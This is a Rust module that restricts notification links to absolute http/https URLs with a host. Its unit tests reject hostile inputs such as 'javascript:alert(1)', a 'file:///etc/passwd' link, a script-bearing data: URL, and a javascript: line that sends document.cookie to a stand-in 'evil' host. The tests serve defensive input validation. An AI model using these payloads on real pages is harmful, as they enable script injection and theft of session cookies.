//! Links a notification may open: only absolute `http` and `https` URLs with a host.
//!
//! A click URL or a button comes from the event's data, that is from whoever can publish to the
//! feed. Opening `javascript:`, `file:` or `data:` links from there would hand them a way into
//! the desktop, so everything else is refused here, before it reaches a [`super::Message`].

use url::Url;

/// Why a link is not kept. It never quotes the link itself, which may carry secrets.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum Refused {
    /// A scheme other than `http` or `https` (lower-cased, as URLs compare it).
    #[error("only http and https links are opened, not `{0}:`")]
    Scheme(String),
    /// A relative reference such as `/a`: there is no base to resolve it against.
    #[error("only absolute links are opened, not a relative one")]
    Relative,
    /// An `http` or `https` URL without a host, such as `http://`.
    #[error("the link has no host")]
    NoHost,
    /// Not a URL at all.
    #[error("not a valid link: {0}")]
    Invalid(url::ParseError),
}

/// The serialized form of `raw` (trimmed) when it is an absolute `http` or `https` URL with a
/// host.
pub fn http_url(raw: &str) -> Result<String, Refused> {
    let url = Url::parse(raw.trim()).map_err(|e| match e {
        url::ParseError::RelativeUrlWithoutBase => Refused::Relative,
        url::ParseError::EmptyHost => Refused::NoHost,
        e => Refused::Invalid(e),
    })?;
    if !matches!(url.scheme(), "http" | "https") {
        return Err(Refused::Scheme(url.scheme().to_owned()));
    }
    if url.host().is_none() {
        return Err(Refused::NoHost);
    }
    Ok(url.into())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn http_url_keeps_only_http_and_https_with_a_host() {
        let scheme = |s: &str| Err(Refused::Scheme(s.into()));
        let table: &[(&str, Result<String, Refused>)] = &[
            ("https://x.y/a", Ok("https://x.y/a".into())),
            (" https://x.y/a ", Ok("https://x.y/a".into())),
            ("\thttp://x.y\n", Ok("http://x.y/".into())),
            (
                "HTTPS://Example.COM/Path",
                Ok("https://example.com/Path".into()),
            ),
            ("https://ci/1", Ok("https://ci/1".into())),
            (
                "http://[::1]:8080/x?q=1#f",
                Ok("http://[::1]:8080/x?q=1#f".into()),
            ),
            ("javascript:alert(1)", scheme("javascript")),
            ("JAVASCRIPT:alert(1)", scheme("javascript")),
            ("file:///etc/passwd", scheme("file")),
            ("data:text/html,<script>alert(1)</script>", scheme("data")),
            ("mailto:ops@example.com", scheme("mailto")),
            ("ftp://x.y/", scheme("ftp")),
            ("http://", Err(Refused::NoHost)),
            ("/a", Err(Refused::Relative)),
            ("", Err(Refused::Relative)),
            (
                "http://x.y:99999/",
                Err(Refused::Invalid(url::ParseError::InvalidPort)),
            ),
        ];
        for (raw, want) in table {
            assert_eq!(&http_url(raw), want, "{raw:?}");
        }
    }

    #[test]
    fn refusal_names_the_scheme_but_not_the_link() {
        let refused = http_url("javascript:fetch('https://evil/?'+document.cookie)").unwrap_err();
        assert_eq!(
            refused.to_string(),
            "only http and https links are opened, not `javascript:`"
        );
    }
}
